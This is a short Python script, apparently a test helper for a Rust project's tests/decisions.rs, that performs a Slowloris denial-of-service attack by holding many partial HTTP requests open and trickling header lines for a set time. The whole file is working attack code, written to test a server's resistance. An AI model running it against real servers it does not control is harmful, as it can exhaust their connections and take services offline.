"""Slowloris for tests/decisions.rs: CONNS connections that each send a
partial request, then one more header line every INTERVAL seconds, for
at most SECS seconds (connections that fail are not reopened).

usage: slowloris.py HOST PORT CONNS INTERVAL SECS
"""
import socket
import sys
import time

host, port = sys.argv[1], int(sys.argv[2])
conns, interval, secs = int(sys.argv[3]), float(sys.argv[4]), float(sys.argv[5])
socks = []
for i in range(conns):
    try:
        s = socket.create_connection((host, port), timeout=2)
        s.sendall(b"GET /?%d HTTP/1.1\r\nHost: %s\r\nUser-Agent: slow\r\n" % (i, host.encode()))
        socks.append(s)
    except OSError:
        pass
end = time.time() + secs
n = 0
while socks and time.time() < end:
    time.sleep(interval)
    n += 1
    alive = []
    for s in socks:
        try:
            s.sendall(b"X-a-%d: b\r\n" % n)
            alive.append(s)
        except OSError:
            s.close()
    socks = alive
